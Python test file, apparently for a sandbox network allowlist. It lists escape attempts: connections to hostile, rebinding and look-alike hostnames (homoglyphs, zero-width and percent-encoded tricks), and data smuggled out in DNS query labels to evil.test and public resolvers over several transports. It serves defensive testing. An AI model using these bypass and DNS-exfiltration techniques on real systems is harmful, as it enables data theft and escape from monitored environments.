"""Names that are allowed and lead inside, names that only look like allowed ones, and names as a way out themselves."""

import socket

import places
from rows import ALL, NAMED, OPEN, REACHING, WEB, attempt, only, reaches
from wire import ask, ask_over_stream, by_connect, by_socks, direct, request, resolved, whole_address

WAYS = {
    "directly": lambda name, token: direct(resolved(name), 80, request(name, token)),
    "directly over IPv6": lambda name, token: direct(
        socket.getaddrinfo(name, 80, socket.AF_INET6)[0][4][0], 80, request(name, token)
    ),
    "by CONNECT": lambda name, token: by_connect(f"{name}:80", request(name, token)),
    "by a whole address": lambda name, token: whole_address(f"http://{name}/", token, name),
    "by SOCKS": lambda name, token: by_socks(name.encode(), 80, request(name, token)),
}
HOSTILE = [*places.TRAPS, "chain.good.test", "long-chain.good.test"]
MANY_TIMES = 8


def to(way, name):
    return lambda token: WAYS[way](name, token)


def again_and_again(way, name):
    """Whatever it leads to now: with its own tokens in the path, since answers change in between."""

    def code(token):
        heard = b""
        for _ in range(MANY_TIMES):
            try:
                heard += WAYS[way](name, token) + b"\n"
            except OSError as error:
                heard += f"[{error}]\n".encode()
        return heard

    return code


for way in WAYS:
    for name in HOSTILE:
        attempt(f"{name} {way}", NAMED + OPEN)(to(way, name))
    for name in ("mixed.good.test", "mixed-private-first.good.test", "huge.good.test"):
        attempt(f"{name} {way}", NAMED + OPEN, reaches("good.test"))(to(way, name))
    for first in ("", "late-"):
        name = f"{first}{way.replace(' ', '-')}.rebind.good.test".lower()
        attempt(f"a name that changes its mind ({first or 'early-'}) {way}", NAMED + OPEN, only("good.test"))(
            again_and_again(way, name)
        )
    for name in ("evil.test", "evilgood.test", "good.test.evil.test", "good-test.evil.test", "test", "pypi.org"):
        attempt(f"{name} without a rule {way}", NAMED)(to(way, name))
    attempt(f"host.internal without permission {way}", REACHING)(to(way, "host.internal"))
    attempt(f"HOST.internal. without permission {way}", REACHING)(to(way, "HOST.internal."))
    attempt(f"an allowed name {way}", NAMED + OPEN, reaches("good.test"))(to(way, "good.test"))
    attempt(f"a name beneath an allowed one {way}", NAMED + OPEN, reaches("good.test"))(to(way, "a.b.good.test"))
    attempt(f"an allowed name with a dot and in upper case {way}", NAMED + OPEN, reaches("good.test"))(
        to(way, "GOOD.Test.")
    )

LOOK_ALIKES = [
    "gооd.test",
    "good․test",
    "good.tеst",
    "xn--god-jma.test",
    "good\u00adtest.evil.test",
    "good.test\u200b.evil.test",
    "ɡood.test",
    "good.test%2eevil.test",
    "good%2etest.evil.test",
    "evil.test%00.good.test",
    "evil.test%23.good.test",
    "evil.test%2f.good.test",
]
for name in LOOK_ALIKES:
    shown = name.encode("ascii", "backslashreplace").decode()
    attempt(f"the look-alike {shown} by CONNECT", NAMED, only("good.test"))(
        lambda token, name=name: by_connect(f"{name}:80", request("good.test", token))
    )
    attempt(f"the look-alike {shown} by SOCKS", NAMED, only("good.test"))(
        lambda token, name=name: by_socks(name.encode(), 80, request("good.test", token))
    )
    attempt(f"the look-alike {shown} by a whole address", NAMED, only("good.test"))(
        lambda token, name=name: whole_address(f"http://{name}/", token, name)
    )

KINDS = {
    "A": 1,
    "NS": 2,
    "CNAME": 5,
    "NULL": 10,
    "PTR": 12,
    "MX": 15,
    "TXT": 16,
    "AAAA": 28,
    "SRV": 33,
    "SVCB": 64,
    "HTTPS": 65,
    "ANY": 255,
}
SERVERS = {
    "the own name server": "198.19.0.53",
    "8.8.8.8": "8.8.8.8",
    "the machine's name server": places.NAME_SERVER,
    "2001:4860:4860::8888": "2001:4860:4860::8888",
    "127.0.0.1": "127.0.0.1",
}
for kind, number in KINDS.items():
    attempt(f"data in a question {kind} to the own name server", ALL)(
        lambda token, number=number: ask("198.19.0.53", f"{token}.evil.test", number)
    )
    attempt(f"data in a question {kind} beneath an allowed name", ALL)(
        lambda token, number=number: ask("198.19.0.53", f"{token}.good.test", number)
    )
for label, server in SERVERS.items():
    attempt(f"data in a question to {label}", ALL)(lambda token, server=server: ask(server, f"{token}.good.test", 16))
    attempt(f"data in a question to {label} over TCP", ALL)(
        lambda token, server=server: ask_over_stream(server, f"{token}.good.test", 1)
    )
attempt("data in the longest name", ALL)(
    lambda token: ask("198.19.0.53", ".".join([token + "x" * 40] * 4 + ["good.test"]))
)
attempt("data in the longest name, looked up as programs do", ALL)(
    lambda token: resolved(".".join([token + "x" * 40] * 4 + ["good.test"]))
)
attempt("data in many names", ALL)(
    lambda token: [ask("198.19.0.53", f"{number}.{token}.good.test") for number in range(50)][-1]
)
attempt("a label that holds anything", ALL)(
    lambda token: ask("8.8.8.8", [token.encode() + b"\0\xff .\r\n", b"good", b"test"])
)
attempt("a question of another class", ALL)(lambda token: ask("8.8.8.8", [token.encode(), b"bind"], 16))
attempt("something else than a question on port 53", ALL)(
    lambda token: direct("8.8.8.8", 53, request("dns.google", token))
)
attempt("names over TLS (853)", NAMED + WEB)(lambda token: ask_over_stream("8.8.8.8", f"{token}.evil.test", 1, 853))
attempt("names over HTTP by name", NAMED)(lambda token: by_connect("dns.google:443", request("dns.google", token)))
attempt("names over HTTP by address", NAMED)(lambda token: direct("8.8.8.8", 443, request("dns.google", token)))
attempt("names over multicast (5353)", ALL)(lambda token: ask("224.0.0.251", f"{token}.local", 1, 5353))
attempt("names over multicast (5355)", ALL)(lambda token: ask("224.0.0.252", token, 1, 5355))
